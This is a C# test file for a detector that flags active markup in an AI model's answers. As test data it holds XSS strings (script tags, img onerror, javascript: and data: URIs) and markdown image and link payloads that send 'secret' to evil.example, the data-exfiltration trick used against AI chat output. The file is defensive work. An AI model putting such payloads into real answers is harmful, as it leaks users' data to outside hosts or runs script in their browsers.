using Assistant.Policies.Tests.Doubles;

namespace Assistant.Policies.Tests.Detectors.Markup;

public sealed class MarkupDetectorTests(ShippedPolicies policies)
{
    [Theory]
    [InlineData("See <script>alert(1)</script> [1].", "<script>")]
    [InlineData("See <img src=x onerror=alert(1)> [1].", "<img src=x onerror=alert(1)>")]
    [InlineData("See <a href=\"x\">this</a> [1].", "<a href=\"x\">")]
    [InlineData("See <!-- hidden --> [1].", "<!-- hidden -->")]
    [InlineData("See [this](javascript:alert(1)) [1].", "javascript:alert(1")]
    [InlineData("See [this](data:text/html;base64,AAAA) [1].", "data:text/html;base64,AAAA")]
    [InlineData("See ![chart](https://evil.example/a.png?d=secret) [1].", "![chart](https://evil.example/a.png?d=secret)")]
    [InlineData("See [this](https://evil.example/?q=secret) [1].", "https://evil.example/?q=secret")]
    [InlineData("See www.evil.example/x [1].", "www.evil.example/x")]
    public async Task Detect_MarkupThatActs_IsFoundWhereItStands(string answer, string part) =>
        (await policies.FindAsync("markup", Some.Output(answer, Some.Passage("Nothing of it."))))
            .ShouldContain(f => answer.Substring(f.Start, f.Length) == part);

    [Theory]
    [InlineData("Send GET /v1/devices/<id> with the token <token> [1].", "")]
    [InlineData("Temperatures < 40 °C and > 10 °C are fine: no data: none [1].", "")]
    [InlineData("Use **bold** and `code` and [2] [1].", "")]
    [InlineData("See https://portal.halden.example/leave. [1]", "Requests go to https://portal.halden.example/leave.")]
    public async Task Detect_HarmlessText_IsLeftAlone(string answer, string passage) =>
        (await policies.FindAsync("markup", Some.Output(answer, Some.Passage(passage)))).ShouldBeEmpty();

    [Fact]
    public async Task Detect_AllowedHost_MayBeLinked()
    {
        using var folder = new RuleFolder(("a.yaml", """
            id: markup
            description: Links.
            stages: [output]
            detector: markup
            parameters: { allowedHosts: [halden.example] }
            action: redact
            severity: low
            message: Removed.
            """));
        await using var host = await PolicyHost.StartAsync(folder.Path);

        var verdict = await host.Engine.CheckAsync(Some.Output("https://wiki.halden.example/a and https://nothalden.example/b"), TestContext.Current.CancellationToken);

        verdict.Findings.ShouldHaveSingleItem().Start.ShouldBe("https://wiki.halden.example/a and ".Length);
    }
}
